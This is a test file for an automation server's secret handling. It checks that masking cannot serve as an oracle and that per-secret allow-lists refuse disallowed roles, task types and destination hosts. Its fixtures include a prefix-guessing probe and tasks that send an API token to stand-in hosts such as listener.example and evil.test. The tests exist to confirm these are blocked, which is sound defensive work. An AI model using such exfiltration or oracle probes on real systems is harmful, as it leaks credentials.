// Issue 10, item 2: masking is no oracle (only whole values are masked), and each secret says who may use
// it — the roles whose tasks may reference it, the task types, for http the destination hosts, and whether
// remote workers may have it. A refused use names the rule, at submission and again at run time.
import { afterEach, describe, expect, test } from "bun:test";
import { bearer, errorOf, expectOk, send, userWithRole } from "../../../test/auth.ts";
import { cleanup, json, startTestApp, startTestServer, type TestServer } from "../../../test/helpers.ts";
import type { TaskJson } from "../../engine/task-record.ts";

afterEach(cleanup);

const SECRET = "s3cr3t-Q9vX2mZ7pL4wK8"; // 21 characters, as in the report

async function finished(server: TestServer, id: string): Promise<TaskJson> {
  return expectOk(await server.api(`/tasks/${id}/wait?timeout=30`));
}

describe("masking is not an oracle", () => {
  test("an http task probing the API with query keys sees its guesses as they are, a prefix of a secret included", async () => {
    const server = await startTestServer();
    await expectOk(await server.api("/secrets", json({ name: "API_TOKEN", value: SECRET })), 201);
    // Each probe: an unknown query key makes the API answer 400 naming it in `field`. Before the fix the
    // result showed *** exactly when the guess was the start of a secret — 18 tasks recovered all 21 characters.
    const probe = async (guess: string) => {
      const task = await expectOk(
        await server.api(
          "/tasks",
          json({
            title: `probe ${guess}`,
            task_type: "http",
            params: { url: `${server.url}/api/v1/tasks?${guess}=1`, headers: { authorization: `Bearer ${server.token}` }, expected_status: 400 },
          }),
        ),
        201,
      );
      const done = await finished(server, task.id);
      expect(done.status).toBe("succeeded");
      return (done.result as { json: { error: { details: Array<{ field: string }> } } }).json.error.details[0]!.field;
    };
    expect(await probe("s3cr")).toBe("s3cr");
    expect(await probe("q3cr")).toBe("q3cr");
    expect(await probe(SECRET.slice(0, 20))).toBe(SECRET.slice(0, 20));
    // The whole value is still masked.
    expect(await probe(SECRET)).toBe("***");
  });
});

describe("each secret's allow-list", () => {
  test("by default only admins' tasks may use a secret: an operator's task is refused naming the rule, nothing stored", async () => {
    const server = await startTestApp();
    await expectOk(await server.api("/secrets", json({ name: "API_TOKEN", value: SECRET })), 201);
    const olga = (await userWithRole(server, server.token, "olga", "operator")).access_token;
    const exfiltrate = { title: "x", task_type: "http", params: { url: "http://listener.example/", headers: { authorization: "Bearer {{secrets.API_TOKEN}}" } } };
    const res = await server.api("/tasks", bearer(olga, json(exfiltrate)));
    const body = (await res.clone().json()) as { error: { details: Array<{ field: string; message: string }> } };
    expect(await errorOf(res)).toMatchObject({ status: 403, code: "forbidden" });
    expect(body.error.details).toEqual([
      { field: "params.headers.authorization", message: "secret 'API_TOKEN' may be used by tasks of admin only (its allow-list's roles); the task's author is an operator" },
    ]);
    expect((await expectOk(await server.api("/tasks"))).total).toBe(0);
    // A plan run started by the operator is the operator's tasks: refused the same way.
    await expectOk(await server.api("/plans", json({ name: "p", steps: [{ name: "call", task_type: exfiltrate.task_type, params: exfiltrate.params }] })), 201);
    expect((await errorOf(await server.api("/plans/p/run", bearer(olga, { method: "POST" })))).message).toContain("step 'call': secret 'API_TOKEN' may be used by tasks of admin only");
    // The admin may.
    await expectOk(await server.api("/tasks", json(exfiltrate)), 201);
  });

  test("roles, task types and hosts: each refusal names its rule; an allowed use is accepted", async () => {
    const server = await startTestApp();
    await expectOk(
      await server.api("/secrets", json({ name: "API_TOKEN", value: SECRET, allow: { roles: ["admin", "operator"], task_types: ["http"], hosts: ["api.example.com", "*.svc.example.com"] } })),
      201,
    );
    const olga = (await userWithRole(server, server.token, "olga", "operator")).access_token;
    const http = (url: string) => ({ title: "call", task_type: "http", params: { url, headers: { "x-token": "{{secrets.API_TOKEN}}" } } });
    const refusedFor = async (body: unknown) => (await errorOf(await server.api("/tasks", bearer(olga, json(body))))).message;
    expect(await refusedFor(http("https://evil.test/collect"))).toBe(
      "params.headers.x-token: secret 'API_TOKEN' may be sent only to api.example.com, *.svc.example.com (its allow-list's hosts), not to evil.test",
    );
    expect(await refusedFor({ title: "sh", task_type: "hello", params: { name: "{{secrets.API_TOKEN}}" } })).toContain("may be used by 'http' tasks only (its allow-list's task types), not 'hello'");
    await expectOk(await server.api("/tasks", bearer(olga, json(http("https://api.example.com/v1")))), 201);
    await expectOk(await server.api("/tasks", bearer(olga, json(http("https://a.svc.example.com/")))), 201);
    // A hosts list alone also keeps the secret to http tasks: other types could send it anywhere.
    await expectOk(await server.api("/secrets/API_TOKEN", send("PUT", { allow: { roles: ["admin"], hosts: ["api.example.com"] } })));
    expect((await errorOf(await server.api("/tasks", json({ title: "h", task_type: "hello", params: { name: "{{secrets.API_TOKEN}}" } })))).message).toContain(
      "only http tasks, whose destination is checked, may use it, not 'hello'",
    );
    // The list is answered back, never the value; a bad host is a 400 naming the field.
    const [listed] = (await expectOk(await server.api("/secrets"))).items;
    expect(listed).toMatchObject({ name: "API_TOKEN", allow: { roles: ["admin"], task_types: null, hosts: ["api.example.com"], remote_workers: false } });
    const bad = await server.api("/secrets/API_TOKEN", send("PUT", { allow: { roles: ["admin"], hosts: ["not a host/"] } }));
    expect(bad.status).toBe(400);
    expect(JSON.stringify(await bad.json())).toContain("allow.hosts.0");
  });

  test("the server's own keys (AGENTVINE_*) stay usable by the server and by no task, until an admin allows it", async () => {
    const server = await startTestApp();
    await expectOk(await server.api("/secrets", json({ name: "AGENTVINE_LLM_API_KEY", value: "sk-live-abcdef123456" })), 201);
    expect(server.services.secrets.reveal("AGENTVINE_LLM_API_KEY")).toBe("sk-live-abcdef123456");
    const refused = await errorOf(await server.api("/tasks", json({ title: "x", task_type: "hello", params: { name: "{{secrets.AGENTVINE_LLM_API_KEY}}" } })));
    expect(refused).toMatchObject({ status: 403, message: expect.stringContaining("is kept for the server's own use") });
  });

  test("at run time: an http step whose URL is known only when it runs is refused then, naming the rule", async () => {
    const server = await startTestServer();
    await expectOk(await server.api("/secrets", json({ name: "API_TOKEN", value: SECRET, allow: { roles: ["admin"], hosts: ["api.example.com"] } })), 201);
    const call = { name: "call", task_type: "http", params: { url: "{{steps.where.result.stdout}}", headers: { "x-token": "{{secrets.API_TOKEN}}" } } };
    const where = { name: "where", task_type: "shell", params: { command: "printf", args: ["http://127.0.0.1:9/collect"] } };
    await expectOk(await server.api("/plans", json({ name: "p", steps: [where, call] })), 201);
    const run = await expectOk(await server.api("/plans/p/run", { method: "POST" }), 201);
    expect((await finished(server, run.id)).status).toBe("failed");
    const steps = (await expectOk(await server.api(`/tasks?parent_task_id=${run.id}`))).items as TaskJson[];
    const step = steps.find((t) => t.title === "call")!;
    expect(step.error).toBe("cannot resolve {{secrets.…}} in params: secret 'API_TOKEN' may be sent only to api.example.com (its allow-list's hosts), not to 127.0.0.1");
    expect(step.attempts).toBe(1);
    // A URL known at run start is checked then: the run is refused before anything is stored.
    await expectOk(await server.api("/plans", json({ name: "q", steps: [{ ...call, params: { ...call.params, url: "{{inputs.url}}" } }] })), 201);
    const before = (await expectOk(await server.api("/tasks"))).total;
    const refused = await errorOf(await server.api("/plans/q/run", json({ inputs: { url: "http://127.0.0.1:9/collect" } })));
    expect(refused).toMatchObject({ status: 403, message: expect.stringContaining("step 'call': secret 'API_TOKEN' may be sent only to api.example.com") });
    expect((await expectOk(await server.api("/tasks"))).total).toBe(before);
  });
});
